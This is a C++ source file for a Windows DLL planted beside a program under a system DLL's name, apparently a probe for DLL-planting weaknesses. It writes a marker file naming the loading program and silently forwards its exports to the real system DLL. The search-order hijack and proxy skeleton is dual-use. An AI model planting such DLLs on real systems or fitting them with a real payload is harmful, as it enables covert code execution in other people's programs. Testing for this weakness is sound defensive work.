// A DLL planted beside a program, named like a system DLL. When it is loaded it leaves a marker
// file beside itself (its own name with ".loaded", holding the loading program's path), then
// passes each of its exports on to the system folder's DLL of the same name, so that a program
// that loads it goes on working and the marker is the only trace.
//
// Built once per name; PLANTED_NAME is the DLL's file name (wide) and PLANTED_EXPORTS its exports,
// comma-separated, in the order of the thunks the .def file names.
#include <windows.h>

#include <string>

#if defined(__x86_64__)
#define PLANTED_THUNK(n)                                                                   \
  asm(".text\n.globl planted_thunk" #n "\nplanted_thunk" #n ":\n jmp *planted_targets+" #n \
      "*8(%rip)\n");
#else
#define PLANTED_THUNK(n)                                                                      \
  asm(".text\n.globl _planted_thunk" #n "\n_planted_thunk" #n ":\n jmp *_planted_targets+" #n \
      "*4\n");
#endif

extern "C" {
void* planted_targets[8];
}
PLANTED_THUNK(0)
PLANTED_THUNK(1)
PLANTED_THUNK(2)
PLANTED_THUNK(3)
PLANTED_THUNK(4)
PLANTED_THUNK(5)
PLANTED_THUNK(6)
PLANTED_THUNK(7)

namespace {

void LeaveMarker(HINSTANCE self) {
  wchar_t path[MAX_PATH];
  const DWORD length = GetModuleFileNameW(self, path, MAX_PATH);
  if (length == 0 || length >= MAX_PATH) return;
  const std::wstring marker = std::wstring(path, length) + L".loaded";
  char program[MAX_PATH] = {};
  const DWORD programLength = GetModuleFileNameA(nullptr, program, MAX_PATH);
  HANDLE file = CreateFileW(marker.c_str(), FILE_APPEND_DATA, FILE_SHARE_READ | FILE_SHARE_WRITE,
                            nullptr, OPEN_ALWAYS, FILE_ATTRIBUTE_NORMAL, nullptr);
  if (file == INVALID_HANDLE_VALUE) return;
  DWORD written = 0;
  WriteFile(file, program, programLength, &written, nullptr);
  WriteFile(file, "\r\n", 2, &written, nullptr);
  CloseHandle(file);
}

void PassExportsOn() {
  wchar_t folder[MAX_PATH];
  const UINT length = GetSystemDirectoryW(folder, MAX_PATH);
  if (length == 0 || length >= MAX_PATH) return;
  const std::wstring real = std::wstring(folder, length) + L"\\" + PLANTED_NAME;
  const HMODULE system = LoadLibraryW(real.c_str());
  if (system == nullptr) return;
  const std::string exports = PLANTED_EXPORTS;
  std::size_t start = 0, index = 0;
  while (start < exports.size() && index < 8) {
    std::size_t end = exports.find(',', start);
    if (end == std::string::npos) end = exports.size();
    planted_targets[index++] =
        reinterpret_cast<void*>(GetProcAddress(system, exports.substr(start, end - start).c_str()));
    start = end + 1;
  }
}

}  // namespace

BOOL WINAPI DllMain(HINSTANCE self, DWORD reason, LPVOID) {
  if (reason == DLL_PROCESS_ATTACH) {
    LeaveMarker(self);
    PassExportsOn();
  }
  return TRUE;
}
